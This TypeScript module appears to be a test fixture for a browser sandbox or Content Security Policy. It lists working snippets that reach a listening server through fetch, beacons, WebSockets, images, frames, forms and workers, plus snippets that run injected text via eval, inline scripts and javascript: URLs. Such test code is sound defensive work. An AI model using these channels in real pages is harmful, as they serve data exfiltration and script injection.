/** A way out of the page, or a way in for foreign code. Each runs in the page, with the address of a server that listens. */
export type Attack = (outside: string) => unknown;

/** Ends up at the listening server if nothing stops it. */
export const REACHING_OUT: Readonly<Record<string, Attack>> = {
  fetch: (outside) => fetch(`${outside}/fetch`, { mode: "no-cors" }).catch(() => undefined),
  XMLHttpRequest: (outside) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${outside}/xhr`);
    request.send();
  },
  beacon: (outside) => navigator.sendBeacon(`${outside}/beacon`, "tkr"),
  WebSocket: (outside) => new WebSocket(`${outside.replace("http", "ws")}/socket`),
  EventSource: (outside) => new EventSource(`${outside}/events`),
  picture: (outside) => {
    new Image().src = `${outside}/picture`;
  },
  script: (outside) => {
    document.head.append(Object.assign(document.createElement("script"), { src: `${outside}/script` }));
  },
  "style sheet": (outside) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${outside}/style` }),
    );
  },
  "style in an element": (outside) => {
    document.body.setAttribute("style", `background: url(${outside}/background)`);
  },
  frame: (outside) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${outside}/frame` }));
  },
  object: (outside) => {
    document.body.append(Object.assign(document.createElement("object"), { data: `${outside}/object` }));
  },
  sound: (outside) => {
    document.body.append(Object.assign(document.createElement("audio"), { src: `${outside}/sound`, preload: "auto" }));
  },
  font: (outside) => void new FontFace("x", `url(${outside}/font)`).load().catch(() => undefined),
  form: (outside) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "answer" });
    const form = Object.assign(document.createElement("form"), { action: `${outside}/form`, target: "answer" });
    document.body.append(frame, form);
    form.submit();
  },
  "another base": (outside) => {
    document.head.append(Object.assign(document.createElement("base"), { href: `${outside}/base/` }));
    const picture = new Image();
    picture.src = "picture";
  },
  module: (outside) => {
    const script = document.createElement("script");
    Object.assign(script, { type: "module", textContent: `import "${outside}/module"` });
    document.head.append(script);
  },
  worker: (outside) => {
    const code = `fetch("${outside}/worker", { mode: "no-cors" })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  },
};

/** Runs text as code; sets `window.broken` if nothing stops it. */
export const RUNNING_TEXT: Readonly<Record<string, Attack>> = {
  // biome-ignore lint/security/noGlobalEval: the attack itself
  eval: () => globalThis.eval("window.broken = true"),
  "new Function": () => new Function("window.broken = true")(),
  "a timer with text": () => setTimeout("window.broken = true" as unknown as () => void),
  "an inline script": () => {
    const script = document.createElement("script");
    script.textContent = "window.broken = true";
    document.head.append(script);
  },
  "an inline handler": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.broken = true");
    document.body.append(button);
    button.click();
  },
  "an address that is code": () => {
    const link = Object.assign(document.createElement("a"), { href: "javascript:void(window.broken = true)" });
    document.body.append(link);
    link.click();
  },
  "a data script": () => {
    document.head.append(
      Object.assign(document.createElement("script"), { src: "data:text/javascript,window.broken = true" }),
    );
  },
};
